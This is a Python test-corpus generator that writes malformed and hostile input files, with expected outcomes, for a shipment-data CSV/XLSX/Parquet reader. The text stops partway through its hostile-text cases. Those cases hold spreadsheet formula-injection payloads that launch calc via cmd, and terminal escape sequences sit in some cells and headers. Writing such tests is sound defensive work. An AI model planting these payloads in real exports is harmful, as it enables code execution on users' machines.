"""Broken, odd and hostile input files, each with what must become of it: writes `files/` and `manifest.csv`.

Here: every file of the corpus as a `Case`: its bytes, what is wrong with it, the outcome that the documentation promises.
Add here: another file, also one that fuzzing found; then run `python -m tests.corpus.make`.
Keep out: files above 50 kB and files with names that git cannot keep (see `test_large_files` and `test_landing`).

An outcome is worked out from `docs/input-files.md`, never copied from what the program said.
"""

import csv
import datetime as dt
import gzip
import io
import json
import re
import struct
import zipfile
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from tests.corpus import workbooks as xl

# ruff: noqa: RUF001  # characters that look like others are the point
FOLDER = Path(__file__).parent
FILES, MANIFEST = FOLDER / "files", FOLDER / "manifest.csv"
LARGEST = 50_000

GOOD = {
    "shipment_id": "S1",
    "loading_date": "2023-06-10",
    "hs_code": "2709.00",
    "grade": "Urals",
    "origin_country": "RU",
    "destination_country": "IN",
    "vessel_name": "Example",
    "quantity": "700000",
    "quantity_unit": "bbl",
    "value": "42000000",
    "currency": "USD",
    "nexus": "US",
}
HEADER = list(GOOD)
Row = dict[str, str]


@dataclass(frozen=True)
class Case:
    """A file and its outcome.

    refused: words of the refusal; none: the file is read. accepted: ids of the accepted rows in order. quarantined:
    "row column check" of the others in order. values: those of the accepted rows by column, as text, in order.
    """

    file: str
    fault: str
    content: bytes
    refused: tuple[str, ...] = ()
    accepted: tuple[str, ...] = ()
    quarantined: tuple[str, ...] = ()
    values: dict[str, list[str]] = field(default_factory=dict)


def row(number: int = 1, **changes: str) -> Row:
    """A good row with the id S1, S2, ... and changes."""
    return GOOD | {"shipment_id": f"S{number}"} | changes


def line(record: Row, mark: str = ",", quote: str = "") -> str:
    return mark.join(f"{quote}{value}{quote}" for value in record.values())


def text(*lines: str, end: str = "\n", mark: str = ",", header: list[str] | None = None, quote: str = "") -> str:
    """A file of lines below the header."""
    names = mark.join(f"{quote}{name}{quote}" for name in header or HEADER)
    return end.join([names, *lines]) + end


def table(*records: Row) -> bytes:
    """Records as a program writes them: quoted where needed."""
    content = io.StringIO()
    writer = csv.DictWriter(content, HEADER, lineterminator="\n")
    writer.writeheader()
    writer.writerows(records)
    return content.getvalue().encode()


ONE, TWO = line(row(1)), line(row(2))
GOOD_TEXT = text(ONE, TWO)
BOTH = ("S1", "S2")
TO_UTF8 = "CSV UTF-8"


# --- encodings ---------------------------------------------------------------------------------------------


def encodings() -> list[Case]:
    def named(vessel: str) -> str:
        return text(ONE, line(row(2, vessel_name=vessel)))

    def other(file: str, fault: str, vessel: str, encoding: str) -> Case:
        return Case(f"{file}.csv", fault, named(vessel).encode(encoding), refused=("line 3 is not UTF-8", TO_UTF8))

    def unprintable(file: str, fault: str, vessel: str) -> Case:
        content = named(vessel).encode()
        return Case(f"{file}.csv", fault, content, accepted=("S1",), quarantined=("3 vessel_name unprintable",))

    good = GOOD_TEXT
    return [
        Case("utf8_bom.csv", "byte order mark before UTF-8", b"\xef\xbb\xbf" + good.encode(), accepted=BOTH),
        Case("utf8_two_boms.csv", "two byte order marks", b"\xef\xbb\xbf" * 2 + good.encode(), accepted=BOTH),
        Case("utf8_names.csv", "names in several scripts", named("Приморск 日本丸 Málaga ǅ 🛢").encode(), accepted=BOTH,
             values={"vessel_name": ["Example", "Приморск 日本丸 Málaga ǅ 🛢"]}),
        Case("utf16_le_bom.csv", "UTF-16, little end first", b"\xff\xfe" + good.encode("utf-16-le"), ("UTF-16", TO_UTF8)),
        Case("utf16_be_bom.csv", "UTF-16, big end first", b"\xfe\xff" + good.encode("utf-16-be"), ("UTF-16", TO_UTF8)),
        Case("utf16_le.csv", "UTF-16 without a mark", good.encode("utf-16-le"), ("line 1 holds a NUL byte", TO_UTF8)),
        Case("utf16_be.csv", "UTF-16 without a mark", good.encode("utf-16-be"), ("line 1 holds a NUL byte", TO_UTF8)),
        Case("utf32_le_bom.csv", "UTF-32", b"\xff\xfe\0\0" + good.encode("utf-32-le"), ("UTF-32", TO_UTF8)),
        Case("utf32_be_bom.csv", "UTF-32", b"\0\0\xfe\xff" + good.encode("utf-32-be"), (TO_UTF8,)),
        other("shift_jis", "Shift-JIS", "日本丸", "shift_jis"),
        other("cp932", "Windows, Japanese, with a letter that Shift-JIS lacks", "髙島丸①", "cp932"),
        other("euc_jp", "EUC-JP", "日本丸", "euc_jp"),
        other("gb18030", "GB 18030", "远洋湖", "gb18030"),
        other("big5", "Big5", "長榮", "big5"),
        other("euc_kr", "EUC-KR", "한국", "euc_kr"),
        other("cp1252", "Windows, Western", "Málaga", "cp1252"),
        other("cp1251", "Windows, Cyrillic", "Приморск", "cp1251"),
        other("cp1253", "Windows, Greek", "Αθήνα", "cp1253"),
        other("koi8_r", "KOI8-R", "Приморск", "koi8_r"),
        other("cp866", "DOS, Cyrillic", "Приморск", "cp866"),
        other("mac_roman", "old Macintosh", "Málaga", "mac_roman"),
        Case("latin_1_header.csv", "Latin-1 in the header", good.replace("nexus", "nexus,prêt", 1).encode("latin-1"),
             ("line 1 is not UTF-8", TO_UTF8)),
        Case("mixed_encodings.csv", "UTF-8, then Latin-1 in row 4",
             text(ONE, line(row(2, vessel_name="Málaga"))).encode() + line(row(3, vessel_name="Málaga")).encode("latin-1"),
             ("line 4 is not UTF-8", TO_UTF8)),
        Case("cut_in_a_character.csv", "ends within a character", named("é").encode()[: named("é").encode().index(b"\xa9")],
             ("line 3 is not UTF-8", TO_UTF8)),
        Case("overlong_utf8.csv", "a slash in a form that UTF-8 forbids", named("x").encode().replace(b",x,", b",\xc0\xaf,"),
             ("line 3 is not UTF-8", TO_UTF8)),
        Case("half_a_character.csv", "half of a UTF-16 pair in UTF-8", named("x").encode().replace(b",x,", b",\xed\xa0\x80,"),
             ("line 3 is not UTF-8", TO_UTF8)),
        Case("lone_continuation.csv", "a byte that only continues", named("x").encode().replace(b",x,", b",\x80,"),
             ("line 3 is not UTF-8", TO_UTF8)),
        Case("ebcdic.csv", "EBCDIC", good.encode("cp500"), (TO_UTF8,)),
        Case("utf7.csv", "UTF-7 with its mark", b"+/v8-" + good.encode(), ("required column shipment_id", "is missing")),
        unprintable("iso_2022_jp", "ISO-2022-JP, which is ASCII with escapes", "日本丸".encode("iso2022_jp").decode("ascii")),
        unprintable("wrongly_decoded", "Windows text decoded as Latin-1", "Captain\x92s Pride"),
        unprintable("lost_character", "the mark of a lost character", "M\ufffdlaga"),
        unprintable("escape_sequence", "a sequence that steers a terminal", "\x1b]0;owned\x07\x1b[2J"),
        unprintable("turned_direction", "a mark that turns the direction of writing", "Exam\u202eelp"),
        unprintable("no_width", "a character without width", "Exam\u200bple"),
        unprintable("bom_in_a_cell", "a byte order mark in a cell", "\ufeffExample"),
        unprintable("line_separator", "a line separator of Unicode", "Exam\u2028ple"),
        unprintable("tag_characters", "letters that nobody sees", "Example" + "".join(chr(0xE0000 + ord(c)) for c in "hid")),
        Case("nul_in_a_cell.csv", "a NUL byte", named("Exam\0ple").encode(), ("line 3 holds a NUL byte", TO_UTF8)),
        Case("nul_tail.csv", "filled up with NUL bytes", good.encode() + b"\0" * 500, ("line 4 holds a NUL byte", TO_UTF8)),
        Case("nul_only.csv", "nothing but NUL bytes", b"\0" * 1000, ("line 1 holds a NUL byte", TO_UTF8)),
        Case("noise.csv", "bytes of no kind", bytes((i * 197 + 92) % 251 for i in range(2000)), (TO_UTF8,)),
        Case("end_of_text_mark.csv", "the end mark of old systems", good.encode() + b"\x1a", accepted=BOTH,
             quarantined=("4 - ragged_row",)),
        Case("unprintable_id.csv", "an id with a character without width", text(ONE, line(row(2, shipment_id="S1\u200b"))).encode(),
             accepted=("S1",), quarantined=("3 shipment_id unprintable",)),
    ]  # fmt: skip


# --- separators, quotes, lines -----------------------------------------------------------------------------


def separators() -> list[Case]:
    def with_mark(mark: str) -> bytes:
        return text(line(row(1), mark), line(row(2), mark), mark=mark).encode()

    german = text(line(row(1, value="41999999,70"), ";"), mark=";").encode()
    short, surplus = ONE.rsplit(",", 1)[0], ONE + ",more"
    return [
        Case("semicolons.csv", "semicolons", with_mark(";"), ("separated by semicolons", "commas")),
        Case("tabs.csv", "tabs", with_mark("\t"), ("separated by tabs", "commas")),
        Case("bars.csv", "vertical bars", with_mark("|"), ("separated by vertical bars", "commas")),
        Case("colons.csv", "colons", with_mark(":"), ("required column shipment_id", "is missing")),
        Case("unit_separators.csv", "the separator of ASCII", with_mark("\x1f"), ("required column shipment_id",)),
        Case("blanks.csv", "blanks", with_mark(" "), ("required column shipment_id", "is missing")),
        Case("semicolons_decimal_commas.csv", "semicolons and a decimal comma", german, ("separated by semicolons",)),
        Case("semicolons_quoted.csv", "semicolons between quotes",
             text(line(row(1), ";", '"'), mark=";", quote='"').encode(), ("separated by semicolons",)),
        Case("sep_line.csv", "a first line that tells the separator", b"sep=;\n" + with_mark(";"), ("required column",)),
        Case("commas_then_semicolons.csv", "a header with commas, a row with semicolons",
             text(ONE, line(row(2), ";")).encode(), accepted=("S1",), quarantined=("3 - ragged_row",)),
        Case("commas_then_tabs.csv", "a header with commas, a row with tabs",
             text(ONE, line(row(2), "\t")).encode(), accepted=("S1",), quarantined=("3 - ragged_row",)),
        Case("comma_and_blank.csv", "a blank after each comma", text(line(row(1), ", "), mark=", ").encode(), accepted=("S1",)),
        Case("trailing_commas.csv", "a comma at the end of every line",
             text(ONE + ",", TWO + ",", header=[*HEADER, ""]).encode(), accepted=BOTH),
        Case("trailing_commas_below.csv", "a comma at the end of the rows only", text(ONE + ",", TWO).encode(),
             accepted=("S2",), quarantined=("2 - ragged_row",)),
        Case("short_row.csv", "a row with a cell too few", text(short, TWO).encode(), accepted=("S2",), quarantined=("2 - ragged_row",)),
        Case("long_row.csv", "a row with a cell too many", text(surplus, TWO).encode(), accepted=("S2",), quarantined=("2 - ragged_row",)),
        Case("fixed_width.csv", "columns of fixed width", "".join(f"{name:20}" for name in HEADER).encode() + b"\n",
             ("required column shipment_id", "is missing")),
    ]  # fmt: skip


def quotes() -> list[Case]:
    def vessel(file: str, fault: str, written: str, taken: str) -> Case:
        content = text(ONE, TWO.replace("Example", written)).encode()
        return Case(f"{file}.csv", fault, content, accepted=BOTH, values={"vessel_name": ["Example", taken]})

    def refused(file: str, fault: str, written: str, *words: str) -> Case:
        content = text(ONE, TWO.replace("Example", written), line(row(3))).encode()
        return Case(f"{file}.csv", fault, content, (*words, "quote"))

    stray = text(
        ONE,
        TWO.replace("Urals", '"Urals'),
        line(row(3)),
        line(row(4)),
        line(row(5)).replace("Urals", 'Urals"'),
        line(row(6)),
    )
    stray_first = text('"' + ONE, TWO, line(row(3)).replace("S3", 'S3"'), line(row(4)))
    single = text(line(row(1), ",", "'"), TWO)
    return [
        refused("open_quote", "a quote that is never closed", '"Example', "row 3 cannot be read as CSV"),
        refused("text_after_quote", "text after a closing quote", '"Exam"ple', "row 3 cannot be read as CSV"),
        refused("blank_after_quote", "a blank after a closing quote", '"Example" ', "row 3 cannot be read as CSV"),
        refused("backslash_quotes", "quotes escaped with backslashes", '"The \\"Good\\" Ship"', "row 3 cannot be read as CSV"),
        Case("quote_at_the_end.csv", "ends with an open quote", (GOOD_TEXT + '"').encode(), ("row 4", "quote")),
        Case("swallowed_rows.csv", "two stray quotes with three rows between", stray.encode(),
             accepted=("S1", "S6"), quarantined=("3 grade swallowed_rows",)),
        Case("swallowed_rows_cr.csv", "the same with old line ends", stray.replace("\n", "\r").encode(),
             accepted=("S1", "S6"), quarantined=("3 grade swallowed_rows",)),
        Case("swallowed_first_cell.csv", "two stray quotes in the first column", stray_first.encode(),
             accepted=("S4",), quarantined=("2 shipment_id swallowed_rows",)),
        vessel("quote_inside", "an inch mark in a name without quotes", 'Example 5" II', 'Example 5" II'),
        vessel("doubled_quotes", "quotes doubled inside quotes", '"The ""Good"" Ship"', 'The "Good" Ship'),
        vessel("only_quotes", "a name that is one quote", '""""', '"'),
        vessel("comma_inside", "a comma inside quotes", '"Example, ex Other"', "Example, ex Other"),
        vessel("line_break_inside", "a line break inside quotes", '"Example\nex Other"', "Example\nex Other"),
        vessel("empty_quotes", "nothing between quotes", '""', ""),
        vessel("curly_quotes", "typographic quotes", "“Example”", "“Example”"),
        vessel("backslash", "a backslash", "Exa\\mple\\n", "Exa\\mple\\n"),
        vessel("tab_inside", "a tab in a name", "Exam\tple", "Exam\tple"),
        Case("all_quoted.csv", "every cell between quotes", text(line(row(1), ",", '"'), quote='"').encode(), accepted=("S1",)),
        Case("single_quotes.csv", "apostrophes for quotes in a row", single.encode(), accepted=("S2",), quarantined=(
            "2 loading_date,hs_code,origin_country,destination_country,quantity,quantity_unit,value,currency,nexus "
            "not_a_date,pattern,allowed,allowed,not_a_number,allowed,not_a_number,allowed,nexus_regimes",)),
        Case("single_quoted_header.csv", "apostrophes for quotes in the header", text(ONE, quote="'").encode(),
             ("required column shipment_id", "is missing")),
    ]  # fmt: skip


def lines() -> list[Case]:
    def ends(file: str, fault: str, end: str) -> Case:
        return Case(f"{file}.csv", fault, text(ONE, TWO, end=end).encode(), accepted=BOTH)

    blank = "," * (len(HEADER) - 1)
    return [
        ends("crlf", "line ends of Windows", "\r\n"),
        ends("cr", "line ends of old Macintosh", "\r"),
        ends("crcrlf", "line ends changed twice", "\r\r\n"),
        ends("lfcr", "line ends the wrong way round", "\n\r"),
        Case("mixed_line_ends.csv", "three kinds of line end", f"{','.join(HEADER)}\r\n{ONE}\r{TWO}\n".encode(), accepted=BOTH),
        Case("no_last_line_end.csv", "no line end at the end", GOOD_TEXT.rstrip("\n").encode(), accepted=BOTH),
        Case("next_line_mark.csv", "line ends of mainframes, so all is one line", text(ONE, TWO, end="\x85").encode(), ("more than once",)),
        Case("form_feed.csv", "a page break between rows", text(ONE, "\f", TWO).encode(), accepted=BOTH, quarantined=("3 - ragged_row",)),
        Case("blank_lines.csv", "blank lines between rows", text("", ONE, "", blank, "", TWO, "", "").encode(), accepted=BOTH),
        Case("blanks_in_a_line.csv", "a line of blanks", text(ONE, "   ", TWO).encode(), accepted=BOTH),
        Case("comment_first.csv", "a comment above the header", b"# cargoes\n" + GOOD_TEXT.encode(), ("required column",)),
        Case("comment_between.csv", "a comment between rows", text(ONE, "# sold later", TWO).encode(), accepted=BOTH,
             quarantined=("3 - ragged_row",)),
        Case("total_line.csv", "a total below the rows", text(ONE, TWO, ",,,,,,Total,1400000,,84000000,,").encode(), accepted=BOTH,
             quarantined=("4 shipment_id,loading_date,hs_code,origin_country,destination_country,quantity_unit,currency "
                          "required,required,required,required,required,required,value_needs_currency",)),
    ]  # fmt: skip


# --- numbers and days --------------------------------------------------------------------------------------


def numbers() -> list[Case]:
    def read(file: str, fault: str, written: str, taken: float) -> Case:
        content = table(row(1), row(2, quantity=written))
        return Case(f"number_{file}.csv", fault, content, accepted=BOTH, values={"quantity": ["700000.0", str(taken)]})

    def bad(file: str, fault: str, written: str, check: str = "not_a_number") -> Case:
        content = table(row(1), row(2, quantity=written))
        return Case(f"number_{file}.csv", fault, content, accepted=("S1",), quarantined=(f"3 quantity {check}",))

    unquoted = text(ONE, TWO.replace("700000", "59,70"))
    german = table(row(1, quantity="700.000"), row(2, quantity="59,70"), row(3), row(4, quantity="1234.567"))
    points = table(row(1, quantity="700.000"), row(2, quantity="1.234.567"))
    english = table(row(1, quantity="700.125"), row(2, quantity="1,234"), row(3, quantity="1,234.50"))
    return [
        bad("decimal_comma", "59,70", "59,70", "decimal_comma"),
        bad("decimal_comma_thousands", "1.234,5", "1.234,5", "decimal_comma"),
        bad("comma_thousands", "1,234", "1,234", "decimal_comma"),
        bad("comma_thousands_point", "1,234.50", "1,234.50"),
        bad("points_for_thousands", "1.234.567", "1.234.567"),
        bad("indian_grouping", "12,34,567.00", "12,34,567.00"),
        bad("blank_thousands", "1 234.5", "1 234.5"),
        bad("no_break_space", "a no-break space for thousands", "1\u00a0234.5"),
        bad("narrow_no_break_space", "a narrow no-break space for thousands", "1\u202f234,5"),
        bad("apostrophe", "1'234", "1'234"),
        bad("curly_apostrophe", "1’234.50", "1’234.50"),
        bad("arabic_separators", "Arabic digits and separators", "١٬٢٣٤٫٥"),
        bad("underscore", "1_000", "1_000"),
        bad("two_signs", "--5", "--5"),
        bad("plus", "+5", "+5"),
        bad("minus_behind", "5-", "5-"),
        bad("unicode_minus", "a minus of Unicode", "\u22125"),
        bad("parentheses", "(5)", "(5)"),
        bad("no_digit_before_point", ".5", ".5"),
        bad("no_digit_behind_point", "5.", "5."),
        bad("exponent", "1.2E+06", "1.2E+06"),
        bad("exponent_beyond_range", "1e400", "1e400"),
        bad("hexadecimal", "0x10", "0x10"),
        bad("octal", "0o17", "0o17"),
        bad("arabic_digits", "Arabic digits", "٧٠٠"),
        bad("devanagari_digits", "Devanagari digits", "७००"),
        bad("full_width_digits", "full-width digits", "７００"),
        bad("superscript", "5²", "5²"),
        bad("fraction", "1/2", "1/2"),
        bad("fraction_character", "½", "½"),
        bad("currency_sign", "$59.70", "$59.70"),
        bad("unit_behind", "59.70 USD", "59.70 USD"),
        bad("percent", "5%", "5%"),
        bad("range", "5-6", "5-6"),
        bad("about", "~700000", "~700000"),
        bad("two_numbers", "1;2", "1;2"),
        bad("words", "ten", "ten"),
        bad("null_word", "NULL", "NULL"),
        bad("dash", "-", "-"),
        bad("true", "TRUE", "TRUE"),
        bad("formula", "a formula as text", "=700*1000"),
        bad("formula_error", "the error of a formula", "#DIV/0!", "formula_error"),
        bad("formula_error_german", "the error of a formula, in German", "#NV", "formula_error"),
        bad("column_too_narrow", "a column that was too narrow", "########", "formula_error"),
        bad("nan", "NaN", "NaN", "not_finite"),
        bad("infinity", "inf", "inf", "not_finite"),
        bad("minus_infinity", "-Infinity", "-Infinity", "not_finite"),
        bad("400_digits", "more digits than a number holds", "9" * 400, "not_finite"),
        bad("huge_integer", "10 to the 30th", "1" + "0" * 30, "implausible_number"),
        bad("two_to_64", "2 to the 64th", str(2**64), "implausible_number"),
        bad("tiny", "next to nothing", "0.0000000000001", "implausible_number"),
        bad("zero", "0", "0", "above"),
        bad("minus_zero", "-0.0", "-0.0", "above"),
        bad("negative", "-5", "-5", "above"),
        bad("empty", "nothing in a column that is needed", "", "required"),
        bad("blank", "blanks in a column that is needed", "  ", "required"),
        read("fifteen_digits", "the largest number that is read", "999999999999999", 999999999999999.0),
        read("leading_zeros", "zeros before a number", "000700", 700.0),
        read("many_decimals", "more decimals than a number holds", "0.12345678901234567890", 0.12345678901234568),
        read("blanks_around", "blanks around a number", " 12.50 ", 12.5),
        read("no_break_space_around", "no-break spaces around a number", "\u00a012.50\u00a0", 12.5),
        read("three_decimals", "three decimals where no number has a comma", "700.125", 700.125),
        Case("number_decimal_comma_unquoted.csv", "59,70 without quotes: one cell more", unquoted.encode(), accepted=("S1",),
             quarantined=("3 - ragged_row",)),
        Case("number_thousands_or_decimals.csv", "700.000 in a file with 59,70", german, accepted=("S3", "S4"),
             quarantined=("2 quantity thousands_or_decimals", "3 quantity decimal_comma"), values={"quantity": ["700000.0", "1234.567"]}),
        Case("number_thousands_by_points.csv", "700.000 in a file with 1.234.567", points,
             quarantined=("2 quantity thousands_or_decimals", "3 quantity not_a_number")),
        Case("number_thousands_by_commas.csv", "700.125 in a file with 1,234: its commas part thousands", english, accepted=("S1",),
             quarantined=("3 quantity decimal_comma", "4 quantity not_a_number"), values={"quantity": ["700.125"]}),
    ]  # fmt: skip


def days() -> list[Case]:
    def bad(file: str, written: str, check: str = "not_a_date") -> Case:
        content = table(row(1), row(2, loading_date=written))
        return Case(
            f"day_{file}.csv", f"the day {written}", content, accepted=("S1",), quarantined=(f"3 loading_date {check}",)
        )

    return [
        bad("ambiguous", "03/04/2023"),
        bad("day_first", "13/04/2023"),
        bad("month_first", "04/13/2023"),
        bad("points", "10.06.2023"),
        bad("dashes_day_first", "10-06-2023"),
        bad("slashes_year_first", "2023/06/10"),
        bad("two_digit_year", "10/06/23"),
        bad("two_digit_year_first", "23-06-10"),
        bad("no_dashes", "20230610"),
        bad("no_zeros", "2023-6-1"),
        bad("month_by_name", "10-Jun-2023"),
        bad("month_by_name_english", "June 10, 2023"),
        bad("month_by_name_russian", "10 июня 2023"),
        bad("japanese_era", "令和5年6月10日"),
        bad("excel_serial", "45087"),
        bad("excel_serial_with_time", "45087.5"),
        bad("unix_seconds", "1686355200"),
        bad("with_midnight", "2023-06-10 00:00:00"),
        bad("with_time", "2023-06-10T13:30:00"),
        bad("with_zone", "2023-06-10T00:00:00+09:00"),
        bad("with_utc", "2023-06-10T00:00:00Z"),
        bad("week", "2023-W23-6"),
        bad("day_of_year", "2023-161"),
        bad("month_only", "2023-06"),
        bad("year_only", "2023"),
        bad("june_31", "2023-06-31"),
        bad("february_29", "2023-02-29"),
        bad("february_29_of_1900", "1900-02-29"),
        bad("month_13", "2023-13-01"),
        bad("day_0", "2023-06-00"),
        bad("all_zeros", "0000-00-00"),
        bad("five_digit_year", "12023-06-10"),
        bad("negative_year", "-2023-06-10"),
        bad("full_width_digits", "２０２３-06-10"),
        bad("other_dashes", "2023‐06‐10"),
        bad("invisible_mark", "\u200e2023-06-10"),
        bad("word", "today"),
        bad("stands_for_never", "9999-12-31", "implausible_day"),
        bad("stands_for_unknown", "1900-01-01", "implausible_day"),
        bad("unix_zero", "1970-01-01", "implausible_day"),
        bad("slip_of_the_pen", "2203-06-10", "implausible_day"),
        bad("buddhist_calendar", "2566-06-10", "implausible_day"),
        bad("persian_calendar", "1402-03-20", "implausible_day"),
        bad("islamic_calendar", "1444-11-21", "implausible_day"),
        Case("day_blanks_around.csv", "blanks around a day", table(row(1, loading_date=" 2023-06-10 ")), accepted=("S1",),
             values={"loading_date": ["2023-06-10"]}),
    ]  # fmt: skip


# --- headers and other text --------------------------------------------------------------------------------


def headers() -> list[Case]:
    def renamed(**names: str) -> list[str]:
        return [names.get(name, name) for name in HEADER]

    def swapped(one: str, other: str) -> str:
        return line(row(2) | {one: GOOD[other], other: GOOD[one]})

    missing = ("required column", "is missing")
    german = [
        "Sendung",
        "Verladung",
        "HS-Code",
        "Sorte",
        "Ursprung",
        "Bestimmung",
        "Schiff",
        "Menge",
        "Einheit",
        "Wert",
        "Währung",
        "Nexus",
    ]
    wide = [f"extra {n}" for n in range(300)]
    return [
        Case("header_repeated_name.csv", "a column twice", text(ONE + ",1", header=[*HEADER, "value"]).encode(),
             ("names value more than once",)),
        Case("header_repeated_after_tidying.csv", "a column twice but for case and blanks",
             text(ONE + ",1", header=[*HEADER, " VALUE "]).encode(), ("names value more than once",)),
        Case("header_upper_case.csv", "names in capitals", text(ONE, header=[name.upper() for name in HEADER]).encode(), accepted=("S1",)),
        Case("header_blanks.csv", "blanks around names", text(ONE, header=[f" {name}\t" for name in HEADER]).encode(), accepted=("S1",)),
        Case("header_translated.csv", "names in German", text(ONE, header=german).encode(), missing),
        Case("header_look_alike.csv", "a name misspelt", text(ONE, header=renamed(hs_code="hs code")).encode(),
             ("required column hs_code (did you mean hs code?)",)),
        Case("header_steers_terminal.csv", "a name with an escape sequence",
             text(ONE, header=renamed(hs_code="hs_cod\x1b[2J")).encode(), ("required column hs_code (did you mean hs_cod\\x1b[2j?)",)),
        Case("header_missing.csv", "no header", f"{ONE}\n{TWO}\n".encode(), missing),
        Case("header_twice.csv", "the header again", text(",".join(HEADER), ONE).encode(), accepted=("S1",), quarantined=(
            "2 loading_date,hs_code,origin_country,destination_country,quantity,quantity_unit,value,currency,nexus "
            "not_a_date,pattern,allowed,allowed,not_a_number,allowed,not_a_number,allowed,nexus_regimes",)),
        Case("header_only.csv", "no row", text().encode(), ("a header but no row",)),
        Case("header_below_a_title.csv", "a title above the header", f"Cargoes 2023\n\n{GOOD_TEXT}".encode(), missing),
        Case("header_below_a_blank_line.csv", "a blank line above the header", f"\n{GOOD_TEXT}".encode(), ("row 1 is blank",)),
        Case("header_line_break.csv", "a line break in a name of no interest",
             text(ONE + ",x", header=[*HEADER, '"re\nmarks"']).encode(), accepted=("S1",)),
        Case("header_blank_names.csv", "columns without a name", text(f"{ONE},x,y", header=[*HEADER, "", ""]).encode(), accepted=("S1",)),
        Case("header_300_others.csv", "300 columns of no interest",
             text(f"{ONE},{','.join(wide)}", header=[*HEADER, *wide]).encode(), accepted=("S1",)),
        Case("header_other_order.csv", "columns the other way round",
             text(",".join(reversed(row(1).values())), header=HEADER[::-1]).encode(), accepted=("S1",),
             values={"quantity": ["700000.0"], "value": ["42000000.0"], "nexus": ["US"]}),
        Case("swapped_days.csv", "loading and discharge swapped",
             text(ONE + ",2023-06-09", header=[*HEADER, "discharge_date"]).encode(),
             quarantined=("2 discharge_date discharge_not_before_loading",)),
        Case("swapped_quantity_and_unit.csv", "quantity and unit swapped", text(ONE, swapped("quantity", "quantity_unit")).encode(),
             accepted=("S1",), quarantined=("3 quantity,quantity_unit not_a_number,allowed",)),
        Case("swapped_code_and_grade.csv", "code and grade swapped", text(ONE, swapped("hs_code", "grade")).encode(),
             accepted=("S1",), quarantined=("3 hs_code pattern",)),
        Case("swapped_currency_and_value.csv", "currency and value swapped", text(ONE, swapped("currency", "value")).encode(),
             accepted=("S1",), quarantined=("3 value,currency not_a_number,allowed",)),
        Case("shifted_row.csv", "a row shifted by one cell", text(ONE, "," + TWO.rsplit(",", 1)[0]).encode(), accepted=("S1",), quarantined=(
            "3 shipment_id,loading_date,hs_code,origin_country,quantity,quantity_unit,value,currency,nexus "
            "required,not_a_date,pattern,allowed,not_a_number,allowed,not_a_number,allowed,nexus_regimes",)),
        Case("repeated_id.csv", "an id twice", text(ONE, TWO, ONE).encode(), accepted=("S2",),
             quarantined=("2 shipment_id unique", "4 shipment_id unique")),
        Case("repeated_id_bad_row.csv", "an id twice, one row of it bad otherwise", text(ONE, TWO, line(row(1, quantity="x"))).encode(),
             accepted=("S2",), quarantined=("2 shipment_id unique", "4 shipment_id,quantity unique,not_a_number")),
    ]  # fmt: skip


def other_kinds() -> list[Case]:
    good = GOOD_TEXT.encode()
    parquet, workbook = _parquet(), xl.workbook(xl.sheet(xl.rows([HEADER, list(GOOD.values())])))
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1000
    html = b"<html><body><table><tr><td>shipment_id</td></tr></table></body></html>"
    document = xl.packed({"word/document.xml": "<document/>", "[Content_Types].xml": "<Types/>"})
    records = json.dumps([GOOD, GOOD]).encode()
    return [
        Case("empty.csv", "no byte", b"", ("empty (0 bytes)",)),
        Case("empty.parquet", "no byte", b"", ("empty (0 bytes)",)),
        Case("empty.xlsx", "no byte", b"", ("empty (0 bytes)",)),
        Case("one_line_end.csv", "a line end and nothing else", b"\n", ("row 1 is blank",)),
        Case("blanks_only.csv", "blanks and nothing else", b"  \n \n", ("row 1 is blank",)),
        Case("bom_only.csv", "a byte order mark and nothing else", b"\xef\xbb\xbf", ("row 1 is blank",)),
        Case("commas_only.csv", "commas and nothing else", b",,,,\n,,,,\n", ("row 1 is blank",)),
        Case("workbook.csv", "a workbook by another name", workbook, ("XLSX workbook", "name it .xlsx")),
        Case("parquet.csv", "Parquet by another name", parquet, ("Parquet", "name it .parquet")),
        Case("old_workbook.csv", "an old workbook by another name", ole, ("old or an encrypted workbook",)),
        Case("packed.csv", "packed with gzip", gzip.compress(good, mtime=0), ("gzip", "unpack it")),
        Case("web_page.csv", "a web page", html, ("web page",)),
        Case("xml.csv", "XML", b'<?xml version="1.0"?><cargoes/>', ("XML",)),
        Case("json.csv", "JSON", records, ("this is JSON",)),
        Case("json_lines.csv", "a JSON object a line", json.dumps(GOOD).encode() + b"\n", ("this is JSON",)),
        Case("document.csv", "a PDF", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", ("PDF",)),
        Case("database.csv", "a database", b"SQLite format 3\0" + b"\0" * 100, ("line 1 holds a NUL byte",)),
        Case("text.xlsx", "CSV by another name", good, ("cannot be read as XLSX",)),
        Case("text.parquet", "CSV by another name", good, ("not readable as Parquet",)),
        Case("workbook.parquet", "a workbook by another name", workbook, ("XLSX workbook", "name it .xlsx")),
        Case("parquet.xlsx", "Parquet by another name", parquet, ("Parquet", "name it .parquet")),
        Case("old_workbook.xlsx", "an old or password-protected workbook", ole, ("old or an encrypted workbook", "without a password")),
        Case("web_page.xlsx", "a web page by another name", html, ("web page",)),
        Case("document.xlsx", "a text document by another name", document, ("cannot be read as XLSX",)),
        Case("cargoes.txt", "a suffix that is not read", good, ("files of type '.txt' are not read",)),
        Case("cargoes.tsv", "a suffix that is not read", good, ("files of type '.tsv' are not read",)),
        Case("cargoes.xls", "a suffix that is not read", ole, ("files of type '.xls' are not read",)),
        Case("cargoes.xlsm", "a suffix that is not read", workbook, ("files of type '.xlsm' are not read",)),
        Case("cargoes.csv.gz", "a suffix that is not read", gzip.compress(good, mtime=0), ("files of type '.gz' are not read",)),
        Case("no_suffix", "no suffix", good, ("files of type '' are not read",)),
        Case("capitals.CSV", "a suffix in capitals", good, accepted=BOTH),
    ]  # fmt: skip


def hostile_text() -> list[Case]:
    """Text that is read to the letter: it does harm only where it is shown or run."""

    def taken(file: str, fault: str, column: str, written: str) -> Case:
        content = table(row(1), row(2) | {column: written})
        ids = ("S1", written) if column == "shipment_id" else BOTH
        return Case(f"text_{file}.csv", fault, content, accepted=ids, values={column: [row(1)[column], written]})

    return [
        taken("formula", "an id that is a formula", "shipment_id", "=cmd|' /C calc'!A0"),
        taken("formula_at", "a name that is a formula", "vessel_name", "@SUM(1+1)*cmd|' /C calc'!A0"),
        taken("formula_plus", "a name that is a formula", "vessel_name", "+1+cmd|' /C calc'!A0"),
        taken("formula_minus", "a name that is a formula", "vessel_name", "-2+3+cmd|' /C calc'!A0"),
